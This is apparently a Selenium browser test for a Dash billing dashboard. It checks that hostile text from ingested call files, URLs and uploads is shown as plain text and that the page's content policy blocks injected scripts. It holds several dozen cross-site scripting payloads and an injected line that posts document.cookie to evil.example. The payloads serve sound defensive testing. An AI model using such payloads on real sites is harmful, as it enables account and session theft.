"""Text from outside in a real browser: it is shown as text, runs nothing, and leads nowhere."""

from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import pytest
from dash.testing import errors
from dash.testing.wait import until
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By as Find
from selenium.webdriver.common.keys import Keys
from sqlalchemy import select

from data.store.schema import customers, invoices
from data.store.writes.versions import version_raised
from layouts.openings import CUSTOMER, OPENINGS, Dates
from tests.attacking import worded
from tests.browser.conftest import clock, now, page, settings  # noqa: F401 (fixtures)
from tests.factories import Usage, add_destination, add_usage
from tests.ingesting import deliver, ingested, line

pytestmark = pytest.mark.browser

RUN = "__ran.push(1)"
MARKUP = [
    f"<script data-evil>{RUN}</script>",
    f"<img data-evil src=x onerror={RUN}>",
    f'"><svg data-evil onload={RUN}>',
    f"'><body data-evil onload={RUN}>",
    f"</script><script data-evil>{RUN}</script>",
    f"</title></textarea></style><script data-evil>{RUN}</script>",
    f"<details data-evil open ontoggle={RUN}>",
    f"<input data-evil autofocus onfocus={RUN}>",
    f"<select data-evil autofocus onfocus={RUN}>",
    f"<video data-evil><source onerror={RUN}></video>",
    f'<iframe data-evil srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe data-evil src=javascript:parent.{RUN}></iframe>",
    f"<object data-evil data=javascript:{RUN}></object>",
    f"<embed data-evil src=javascript:{RUN}>",
    f"<form data-evil action=javascript:{RUN}><button data-evil>go</button></form>",
    f"<math data-evil><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<meta data-evil http-equiv=refresh content=0;url=javascript:{RUN}>",
    "<base data-evil href=//evil.example/>",
    "<link data-evil rel=stylesheet href=//evil.example/a.css>",
    "<style data-evil>*{display:none}</style>",
    f"<!--<img src=--><img data-evil src=x onerror={RUN}>",
    f"<a data-evil href=javascript:{RUN}>price</a>",
    "<b data-evil>bold</b><br><i>i</i>",
    f"&lt;img data-evil src=x onerror={RUN}&gt;",
    f"&#60;img data-evil src=x onerror={RUN}&#62;",
    f"%3Cimg data-evil src=x onerror={RUN}%3E",
    f"\\u003cimg data-evil src=x onerror={RUN}\\u003e",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"'-{RUN}-'",
]
LEADING = [
    f"javascript:{RUN}",
    f"JaVaScRiPt://%0a{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"[price](javascript:{RUN})",
    f'![price](x "onerror={RUN}")',
    "//evil.example/",
    "https://evil.example/a",
]
TEXTS = [*MARKUP, *LEADING]
WATCH = """
window.__ran = [];
window.__refused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.__refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
for (const name of ["alert", "confirm", "prompt", "open"])
  window[name] = () => { window.__ran.push(name); };
"""
BECAME = """
const found = Array.from(document.querySelectorAll("[data-evil]"), (one) => one.outerHTML);
for (const one of document.querySelectorAll("*"))
  for (const {name, value} of one.attributes) {
    if (name.startsWith("on")) found.push(`${name} of ${one.outerHTML}`);
    if (!["href", "xlink:href", "src", "action", "formaction", "srcdoc"].includes(name)) continue;
    const to = new URL(value, window.location.href);
    const ours = to.host === window.location.host || /^(blob:|data:image[/])/.test(value);
    if (!ours) found.push(`${name}=${value}`);
  }
return [found, window.__ran, window.__refused];
"""
MISSING = """
const root = document.querySelector(arguments[0]);
const places = Array.from(root.querySelectorAll("*")).filter((one) => !one.children.length);
const words = places.map((one) => one.textContent).join("\\n");
return arguments[1].filter((text) => !words.includes(text));
"""
MADE = "const one = document.body.appendChild(document.createElement('{}')); {};"
ELSEWHERE = "https://evil.example/"
INJECTED = [
    f"document.body.insertAdjacentHTML('beforeend', `{MARKUP[1]}`)",
    MADE.format("script", f"one.replaceWith(Object.assign(one.cloneNode(), {{text: '{RUN}'}}))"),
    MADE.format("script", f"one.src = '{ELSEWHERE}a.js'"),
    MADE.format("a", f"one.href = 'javascript:{RUN}'; one.click()"),
    f"try {{ eval('{RUN}') }} catch (error) {{}}",
    f"try {{ new Function('{RUN}')() }} catch (error) {{}}",
    MADE.format("iframe", f"one.src = '{ELSEWHERE}'"),
    MADE.format("img", f"one.src = '{ELSEWHERE}a.png'"),
    MADE.format("form", f"one.action = '{ELSEWHERE}'; one.submit()"),
    MADE.format("object", f"one.data = '{ELSEWHERE}'"),
    MADE.format("base", f"one.href = '{ELSEWHERE}'"),
    f"fetch('{ELSEWHERE}', {{method: 'POST', body: document.cookie}}).catch(() => {{}})",
]
"""What an injection would do, if there were one: the policy of the page is the second lock."""
FEW = ("customers", "rejected", "unmatched-calls")
"""The panels that every test run opens; `make attack` opens all of them."""
NOT_ALL = {"rejected": MARKUP}
"""Panels that show some of the texts; those in `FEW` show all, the others what they have."""
TALL = (1440, 3200)
"""High enough that the grid draws every row."""
LATE_S = 20


@dataclass
class Looked:
    """What was looked at, and what of it was not as it must be."""

    driver: Any
    places: int = 0
    through: list[object] = field(default_factory=list)

    def at(self, place: str, shown_in: str = "", texts: list[str] | None = None) -> None:
        """Look at what stands before the browser; texts must stand there as they are."""
        self.places += 1
        became, ran, refused = self.driver.execute_script(BECAME)
        self.through += [(place, "became markup", one[:200]) for one in became]
        self.through += [(place, "ran", one) for one in ran]
        self.through += [(place, "the policy had to refuse", one) for one in refused]
        if texts:
            self.through += [
                (place, "not shown as it is", one) for one in self._missing(shown_in, texts)
            ]
        self.through += [(place, entry["message"]) for entry in self.driver.get_log("browser")]

    def _missing(self, shown_in: str, texts: list[str]) -> list[str]:
        """Return what is not shown, even after a while: a grid draws its rows one by one."""
        found = list(texts)

        def all_there() -> bool:
            found[:] = self.driver.execute_script(MISSING, shown_in, texts)
            return not found

        with suppress(errors.TestingTimeoutError):
            until(all_there, LATE_S)
        return found


@pytest.fixture
def watched(page, store, settings, now):  # noqa: F811 (names of fixtures)
    """The page of a store full of hostile texts, those of calls through the ingest."""
    deliver(settings, "<img data-evil src=x onerror=__ran.push(1)>.csv", _call_file(now))
    assert ingested(store, settings, now=now)[0][1] == "success"
    with store.writing() as conn:
        for number, words in enumerate(TEXTS):
            worded(conn, now, words)
            add_usage(conn, Usage(now.date(), number + 1, units=100 - number))
            add_destination(conn, now.date(), words, 100 - number)
        version_raised(conn, now)
    page.driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})
    page.driver.set_window_size(*TALL)
    return page


def _call_file(now):  # noqa: F811
    """A switch's file: hostile accounts and numbers, and lines that are hostile whole."""
    quoted = [text.replace('"', '""') for text in TEXTS]
    calls = [
        line(n, at=now.replace(microsecond=0), account=text, src=text, dst=text)
        for n, text in enumerate(quoted)
    ]
    return "".join(calls) + "".join(f"{text}\n" for text in MARKUP)


def open_panel(page, slug, now):  # noqa: F811
    """Open a panel from the page as it stands, and wait until its rows are there."""
    opening = OPENINGS[slug]
    subject = ""
    if opening.needs_subject:
        day = now.date().isoformat()
        by_dates = {Dates.DAY: f":{day}", Dates.MONTH: f":{day[:7]}"}
        known = f":{_custid(page)}" if opening.subject == CUSTOMER else ":1"
        subject = by_dates.get(opening.dates, known)
    shut_panel(page)
    page.driver.execute_script("tollboard.go({panel: arguments[0]})", f"{slug}{subject}")
    page.wait_for(
        "(document.querySelector('#panel-total') || {}).textContent && !document.querySelector("
        "'#grid .ag-row-loading') && document.querySelector('#grid .ag-row, .ag-overlay')"
    )


def _custid(page):  # noqa: F811
    with page.store.snapshot() as conn:
        return conn.execute(select(customers.c.custid).order_by(customers.c.id)).scalars().first()


def shut_panel(page):  # noqa: F811
    page.driver.execute_script("tollboard.go(tollboard.NO_PANEL)")
    page.wait_for("!document.querySelector('#panel')")


def ask_everything(page, looked, slug):  # noqa: F811
    """Press each button of a panel with two rows ticked; look at the dialog, and leave it."""
    labels = page.driver.execute_script(
        "Array.from(document.querySelectorAll('#grid .ag-row input[type=checkbox]'))"
        ".slice(0, 2).forEach((box) => box.click());"
        "return Array.from(document.querySelectorAll('.actions .act'), (one) => one.textContent)"
    )
    for label in labels:
        page.driver.execute_script(
            "dash_clientside.set_props('outcome-text', {children: ''});"
            "Array.from(document.querySelectorAll('.actions .act'))"
            ".find((one) => one.textContent === arguments[0]).click()",
            label,
        )
        page.wait_for(
            "document.querySelector('.ask.show #ask-title')"
            " || document.querySelector('#outcome-text').textContent"
        )
        looked.at(f"{slug}: {label}")
        page.driver.execute_script("document.querySelector('.ask.show .btn-close')?.click()")
        page.wait_for("!document.querySelector('.ask.show')")


def look_into_finding(page, looked):  # noqa: F811
    """Find a hostile customer by the search box, and see all of them in the customer filter."""
    box = page.driver.find_element(Find.ID, "search")
    box.send_keys("data-evil")
    page.wait_for("document.querySelectorAll('#search-found [role=option]').length > 5")
    looked.at("the search box")
    box.send_keys(Keys.ESCAPE)
    page.driver.find_element(Find.CSS_SELECTOR, ".menu.customer button").click()
    page.wait_for("document.querySelectorAll('#customer-found [role=option]').length > 5")
    looked.at("the customer filter")
    page.driver.find_element(Find.CSS_SELECTOR, ".menu.customer button").click()


def look_into_charts(page, looked):  # noqa: F811
    """See the largest by name in the charts, under the pointer, and in the tables instead."""
    largest = TEXTS[:3]
    for chart in ("top-customers", "top-destinations"):
        graph = page.driver.find_element(Find.ID, f"{chart}-graph")
        ActionChains(page.driver).move_to_element(graph).perform()
        looked.at(chart)
    page.driver.execute_script("tollboard.go({tables: 'all'})")
    page.wait_for("document.querySelector('#top-destinations-twin td')")
    looked.at("tables instead of charts", "#top-destinations-twin", largest)
    page.driver.execute_script("tollboard.go({tables: null})")


def look_at_papers(page, looked):  # noqa: F811
    """See an invoice as its customer gets it, a login that is to lead elsewhere, a drop."""
    with page.store.snapshot() as conn:
        recorded = invoices.c.number.is_not(None)
        found = conn.execute(select(invoices.c.id).where(recorded).limit(8)).scalars().all()
    for invoice_id in found:
        page.driver.get(f"{page.url}/invoice/{invoice_id}.html")
        page.wait_for("document.body.textContent.length > 100")
        looked.at(f"invoice {invoice_id}")
    for text in LEADING:
        page.driver.get(f"{page.url}/?panel=customers&filter={quote(text)}&customer={quote(text)}")
        page.wait_for("document.querySelector('#page')")
        looked.at(f"an address with {text}")
    page.driver.execute_script(
        "const carried = new DataTransfer();"
        "carried.items.add(new File(['x'], arguments[0]));"
        "document.dispatchEvent(new DragEvent('drop', {dataTransfer: carried, bubbles: true,"
        " cancelable: true}))",
        MARKUP[1],
    )
    page.wait_for("document.querySelector('#uploads b')")
    looked.at("an upload", "#uploads", [MARKUP[1]])


def test_x1_x2_w14_what_comes_from_outside_is_text_and_runs_nothing(watched, now, full, figure):  # noqa: F811
    looked = Looked(watched.driver)
    watched.log_in(f"/?theme={quote(MARKUP[1])}&period={quote(MARKUP[0])}")
    watched.wait_for("document.querySelectorAll('.js-plotly-plot .main-svg').length >= 5")
    looked.at("the page")
    look_into_finding(watched, looked)
    look_into_charts(watched, looked)
    for slug in OPENINGS if full else FEW:
        open_panel(watched, slug, now)
        looked.at(slug, "#grid", NOT_ALL.get(slug, TEXTS) if slug in FEW else None)
        if full or slug == "customers":
            ask_everything(watched, looked, slug)
    if full:
        look_at_papers(watched, looked)
    figure(
        "X1", f"places with {len(TEXTS)} hostile texts in a browser", looked.places, looked.through
    )

    refused = [one for one in INJECTED if not is_refused(watched, one)]
    figure("W14", "injected scripts that the page's policy let through", len(INJECTED), refused)


def is_refused(page, injected):  # noqa: F811
    """Do what an injected script would; tell whether the browser refused it for the policy."""
    page.driver.execute_script(  # in a task of its own: the driver's may evaluate text
        f"window.__refused = []; window.__ran = []; setTimeout(() => {{ {injected} }})"
    )
    page.wait_for("window.__refused.length || window.__ran.length")
    return page.driver.execute_script("return window.__ran.length === 0")
